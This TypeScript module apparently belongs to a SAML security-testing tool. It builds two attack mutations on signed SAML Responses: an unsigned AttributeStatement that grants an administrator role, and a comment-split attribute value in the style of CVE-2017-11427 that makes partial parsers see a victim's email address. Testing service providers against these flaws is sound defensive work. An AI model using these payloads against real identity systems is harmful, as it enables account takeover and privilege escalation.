/** Values that stand where nobody signed them, or that only half-readers see. */

import { insertAt, replaceSpan, findAll, innerOf } from '../protocol/xml-text.ts';
import type { Mutation } from '../protocol/types.ts';
import { first } from './elements.ts';
import { claim, withClaim } from './claims.ts';

/** What an attacker would like to have. */
export const grantedRole = 'samlproof-administrator';

/** An AttributeStatement behind the assertion, in the unsigned Response, that grants a role. */
export function unsignedAttribute(): Mutation {
  const statement =
    '<AttributeStatement xmlns="urn:oasis:names:tc:SAML:2.0:assertion"><Attribute Name="role">' +
    `<AttributeValue>${grantedRole}</AttributeValue></Attribute></AttributeStatement>`;
  return { afterSigning: (xml) => insertAt(xml, first(xml, 'Assertion').end, statement) };
}

/** Where a half-reader stops. */
export const valueBeforeComment = 'victim@samlproof.example';
const rest = '.attacker.example';

/** The signed value of the nickname goes on behind a comment (CVE-2017-11427 and its siblings). */
export function attributeSplitByComment(): Mutation {
  const whole = valueBeforeComment + rest;
  return {
    ...withClaim(claim.nickname, [whole]),
    afterSigning: (xml) => {
      const span = findAll(xml, 'AttributeValue').find((one) => innerOf(xml, one) === whole);
      if (!span) throw new Error('Expected the nickname to put a comment into, found none');
      const start = xml.slice(span.start, span.openEnd);
      return replaceSpan(
        xml,
        span,
        `${start}${valueBeforeComment}<!---->${rest}${xml.slice(span.closeStart, span.end)}`,
      );
    },
  };
}
